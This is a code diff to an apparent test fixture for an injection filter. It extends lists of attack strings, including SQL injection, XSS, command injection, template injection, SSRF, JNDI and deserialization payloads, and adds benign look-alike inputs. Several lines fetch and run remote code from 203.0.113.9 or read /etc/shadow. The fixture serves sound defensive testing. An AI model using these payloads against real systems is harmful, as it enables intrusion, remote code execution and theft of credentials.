@@ -24,6 +24,7 @@ export const ATTACKS: Attack[] = [
     "1 and extractvalue(1,concat(0x7e,version()))",
     "7\u00a0or\u00a03=3",
     "7'\u2003union\u2003select\u20031,2--",
+    "3; copy (select '') to program 'ls'",
   ]),
   ...attacks("xss", [
     "<script>steal()</script>",
@@ -34,6 +35,7 @@ export const ATTACKS: Attack[] = [
     "<iframe src=javascript:alert(3)>",
     "';alert(String.fromCharCode(55))//",
     '<a href="data:text/html,<b>x</b>">y</a>',
+    'top["pro"+"mpt"](4)',
   ]),
   ...attacks("cmdi", [
     "10.0.0.1; cat /etc/shadow",
@@ -48,6 +50,8 @@ export const ATTACKS: Attack[] = [
     "; c''at /et''c/pas''swd",
     'x;"w"h"o"a"m"i',
     "; /???/??t /???/p??s??",
+    "x;mshta http://203.0.113.9/a.hta",
+    "x|tee /var/www/b",
   ]),
   ...attacks("traversal", [
     "../../../../etc/passwd",
@@ -62,12 +66,21 @@ export const ATTACKS: Attack[] = [
     "<%= 9*9 %>",
     "{{''.__class__.__mro__[1].__subclasses__()}}",
     '<#assign x="freemarker.template.utility.Execute"?new()>',
+    "{{ x|map('passthru') }}",
   ]),
-  ...attacks("ssrf", ["http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_INFO"]),
+  ...attacks("ssrf", [
+    "http://169.254.169.254/latest/meta-data/",
+    "gopher://127.0.0.1:6379/_INFO",
+    "http://unix:/run/x.sock:/info",
+  ]),
   ...attacks("jndi", ["${jndi:ldap://203.0.113.9/a}", "${${lower:j}ndi:rmi://203.0.113.9/b}"]),
   ...attacks("xxe", ['<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/hostname">]><d>&e;</d>']),
   ...attacks("ldap", ["*)(uid=*))(|(uid=*", "bob)(|(password=*))"]),
-  ...attacks("deserialization", ['O:8:"Exporter":1:{s:4:"file";s:1:"x";}', "!!python/object/apply:os.getpid []"]),
+  ...attacks("deserialization", [
+    'O:8:"Exporter":1:{s:4:"file";s:1:"x";}',
+    "!!python/object/apply:os.getpid []",
+    "jdbc:mysql://203.0.113.9/a?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
+  ]),
   ...attacks("nosqli", ["' || this.secret == 'x", '{"$gt": ""}']),
 ];
 
@@ -106,6 +119,10 @@ export const BENIGN: string[] = [
   "P@ss'w0rd--1",
   "Robert & Söhne GmbH, Köln",
   "2026-11-22T06:30:00Z",
+  "jdbc:postgresql://db.internal:5432/app?ssl=true&sslmode=require",
+  "cd /app && npm start",
+  "photo.jpg.png",
+  "location: Berlin; self[0] = top[1]",
 ];
 
 /** A long text with code of all kinds in it, as documentation has; at most flagged. */
